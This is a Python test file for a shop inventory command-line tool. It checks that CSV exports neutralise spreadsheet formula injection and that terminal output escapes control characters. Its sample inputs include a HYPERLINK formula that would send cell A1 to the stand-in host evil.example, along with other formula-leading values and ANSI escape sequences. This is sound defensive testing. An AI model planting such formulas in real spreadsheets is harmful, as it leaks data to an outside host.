"""Texts of a catalogue reach spreadsheets as texts, terminals as letters, machines exactly."""

from __future__ import annotations

import codecs
import csv
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from configs.settings import Settings
from features.facts.facts import Facts
from serving.cli.main import app
from serving.cli.output import print_line, print_table
from serving.spreadsheets import Sheet, write_sheet
from tests.shops.event_tables import make_table
from tests.shops.served_shop import NOW

LINK = '=HYPERLINK("https://evil.example/?"&A1,"Socks")'
HOSTILE = (LINK, "@SUM(1+1)*cmd", "+1", "-2+3", "\tx", "\rx", "＝1+1")


def test_a_report_for_people_holds_no_formula(tmp_path: Path) -> None:
    out = tmp_path / "report.csv"
    rows = [(text, -1.5) for text in (*HOSTILE, "Socks", "")]
    write_sheet(Sheet(("title", "units"), rows), out, "csv")
    with out.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))[1:]
    assert rows == [*([f"'{text}", "-1.5"] for text in HOSTILE), ["Socks", "-1.5"], ["", "-1.5"]]


def test_the_order_list_is_defused_and_its_json_is_exact(
    tiny: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    item = {"item_id": "beer", "title": LINK, "category": "@Drinks > Beer", "stock_on_hand": 5.0}
    Facts(tiny).write({"items": make_table("items", [item])})
    monkeypatch.setenv("SHOPWRIGHT_HOME", str(tiny.home))
    monkeypatch.setenv("SHOPWRIGHT_CLOCK_START", NOW.isoformat())
    monkeypatch.setenv("SHOPWRIGHT_CURRENCY", "EUR")
    out = tmp_path / "orders.csv"
    arguments = ["inventory", "--out", str(out), "--json"]
    result = CliRunner().invoke(app, arguments, catch_exceptions=False)
    (row,) = [row for row in json.loads(result.stdout)["items"] if row["item_id"] == "beer"]
    assert (row["title"], row["category"]) == (LINK, "@Drinks > Beer")
    assert out.read_bytes().startswith(codecs.BOM_UTF8)  # or Excel misreads every umlaut
    with out.open(encoding="utf-8-sig", newline="") as file:
        (cells,) = [cells for cells in csv.DictReader(file) if cells["item_id"] == "beer"]
    assert (cells["title"], cells["category"]) == (f"'{LINK}", "'@Drinks > Beer")


def test_a_terminal_shows_brackets_and_obeys_no_control_character(
    capsys: pytest.CaptureFixture[str],
) -> None:
    print_table("Items", ("[title]", "n"), [("[/red] Tee [bold]", 1), ("a\x1b[2Jb\nc", 2)])
    print_line("zone \x1b]0;x\x07")
    out = capsys.readouterr().out
    assert "[/red] Tee [bold]" in out
    assert "[title]" in out
    assert r"a\x1b[2Jb\nc" in out
    assert r"zone \x1b]0;x\x07" in out
    assert "\x1b" not in out
